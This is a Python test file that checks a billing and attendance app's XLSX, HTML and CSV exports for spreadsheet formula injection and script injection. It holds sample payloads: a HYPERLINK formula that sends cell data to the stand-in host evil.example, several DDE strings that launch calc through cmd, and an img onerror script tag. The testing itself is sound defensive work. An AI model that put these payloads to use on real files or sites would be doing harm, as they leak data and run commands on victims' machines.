"""Spreadsheet formula injection: text typed by people (a contract's name, an assessment item and its note, an
objection and its answer, a deviation reason, a refused punch row) that a spreadsheet would run comes out of every
file the app offers as text — XLSX cells never formulas, CSV fields never starting with = + - @, HTML escaped.

The exports, found in the code (openpyxl `workbook`, `send_file`, the rejected-rows CSV): the settlement statement
(XLSX and HTML, command line and web), the assessment report (XLSX and HTML), the annual self-evaluation (XLSX,
command line and web) and the rejected-rows file of an ingest (command line and its web download).
"""
from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import load_workbook

from hallmon.core.exports import FORMULA_PREFIXES
from tests.billing_helpers import load_files, write_hall

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")'
CMD = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
FULLWIDTH = "＝1+1"
MARKUP = '<img src=x onerror="alert(1)">'
PAYLOADS = (LINK, CMD, AT, MINUS, FULLWIDTH)


def dangerous(value) -> bool:
    """A cell a spreadsheet would evaluate: text starting with a formula character that is not a plain number."""
    if not isinstance(value, str) or not value.startswith(FORMULA_PREFIXES):
        return False
    try:
        float(value.replace(",", ""))
        return False
    except ValueError:
        return True


def xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))          # not data_only: formulas would show as formulas
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is a formula"
    return [c.value for c in cells]


def check_xlsx(data: bytes, must_carry: tuple[str, ...]) -> None:
    values = xlsx_cells(data)
    assert [v for v in values if dangerous(v)] == []
    text = "\n".join(str(v) for v in values if v is not None)
    for payload in must_carry:                       # the text is there, kept as text
        assert payload in text, payload


def check_html(page: str, must_carry: tuple[str, ...]) -> None:
    assert MARKUP not in page and "<img src=x" not in page
    for payload in must_carry:
        assert payload.replace("&", "&amp;").replace('"', "&#34;").replace("'", "&#39;").replace("<", "&lt;") in page \
            or payload.replace('"', "&quot;") in page or payload in page, payload


def check_csv(data: bytes, must_carry: tuple[str, ...]) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert [v for row in rows for v in row if dangerous(v)] == []
    text = "\n".join(v for row in rows for v in row)
    for payload in must_carry:
        assert payload in text, payload


def hostile_hall(cli, tmp_path: Path) -> dict[str, Path]:
    """The billing hall of tests/billing_helpers with people's text replaced by injections."""
    files = write_hall(tmp_path, name=LINK + MARKUP)
    files["assessment"].write_text(
        "合同编号,月份,项目代码,考核项目,分值,工号,日期,说明\n"
        f'B-1,2024-03,LATE,"{LINK.replace(chr(34), chr(34) * 2)}",-2.5,A,2024-03-05,{CMD}\n'
        f"B-1,2024-03,DRESS,{AT},-5,B,2024-03-12,{MARKUP}\n"
        f"B-1,2024-03,DRESS,着装仪容,-5,B,2024-03-20,{FULLWIDTH}\n", encoding="utf-8")
    load_files(cli, files)
    gate = ["gate"]
    for args in (["submit", "--user", "wang", "--report", files["report"]], ["verify", "--user", "li"],
                 ["object", "--user", "co", "--line", "assessment", "--text", LINK + MARKUP],
                 ["answer", "--user", "wang", "--accept", "--adjustment", "100.00", "--why", AT],
                 ["verify", "--user", "li"], ["suspend", "--user", "zhao", "--why", MINUS]):
        result = cli(*gate, args[0], "B-1", "--month", "2024-03", *args[1:])
        assert result.exit_code == 0, (args, result.stderr)
    note = cli("evaluation", "note", "B-1", "--year", "2024", "--indicator", "months_passed", "--reason",
               LINK + MARKUP, "--user", "wang")
    assert note.exit_code == 0, note.stderr
    return files


def test_every_export_keeps_injected_text_as_text(cli, tmp_path, backend, login):
    hostile_hall(cli, tmp_path)
    out = tmp_path / "out"
    out.mkdir()

    def export(*args: str) -> bytes:
        target = out / f"{len(list(out.iterdir()))}.bin"
        result = cli(*args, "-o", target)
        assert result.exit_code == 0, (args, result.stderr)
        return target.read_bytes()

    month = ("--month", "2024-03")
    check_xlsx(export("export", "statement", "B-1", *month, "--format", "xlsx"), (LINK,))
    check_html(export("export", "statement", "B-1", *month, "--format", "html").decode(), (LINK, MINUS))
    check_xlsx(export("export", "assessment-report", "B-1", *month, "--format", "xlsx"), (LINK, CMD, AT, FULLWIDTH))
    check_html(export("export", "assessment-report", "B-1", *month, "--format", "html").decode(), (LINK, CMD, AT))
    evaluation = out / "evaluation.xlsx"
    assert cli("evaluation", "report", "B-1", "--year", "2024", "--as-of", "2025-01-10", "--xlsx", evaluation,
               "--json").exit_code == 0
    check_xlsx(evaluation.read_bytes(), (LINK,))

    # a refused punch row written back in the rejected-rows file
    bad = tmp_path / "punches-bad.csv"
    bad.write_text(f"staff_id,time\nA,2024-03-29 08:20:00\n{LINK.replace(',', ';')},2024-03-29 08:21:00\n"
                   f"B,{CMD}\n", encoding="utf-8")
    loaded = cli("ingest", "punches", bad, "--skip-bad-rows", "--json")
    assert loaded.exit_code == 0, loaded.stderr
    check_csv(Path(loaded.json()["rejected_file"]).read_bytes(), (CMD,))

    # the same files through the web, as finance and managers download them
    finance, manager = login("finance"), login("manager")
    check_xlsx(finance.get("/settlements/B-1/2024-03/statement.xlsx").get_data(), (LINK,))
    check_html(finance.get("/settlements/B-1/2024-03/statement.html").get_data(as_text=True), (LINK,))
    check_xlsx(finance.get("/evaluation/B-1/2024.xlsx").get_data(), (LINK,))
    upload = manager.post("/uploads/", data={"kind": "punches", "format": "auto", "skip_bad_rows": "on",
                                             "file": (io.BytesIO(bad.read_bytes()), "punches-bad.csv")},
                          content_type="multipart/form-data")
    assert upload.status_code == 200
    name = next(line.split('/uploads/rejected/')[1].split('"')[0] for line in upload.get_data(as_text=True).splitlines()
                if "/uploads/rejected/" in line)
    download = manager.get(f"/uploads/rejected/{name}")
    check_csv(download.get_data(), (CMD,))
    download.close()
